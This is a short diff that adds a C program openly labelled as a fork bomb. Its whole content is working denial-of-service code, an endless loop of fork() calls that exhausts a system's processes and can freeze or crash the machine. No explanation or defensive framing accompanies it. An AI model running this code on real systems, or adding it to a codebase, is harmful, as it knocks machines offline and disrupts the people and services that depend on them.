@@ -1,0 +1,6 @@
+// A fork bomb.
+#include <unistd.h>
+
+int main(void) {
+    for (;;) fork();
+}
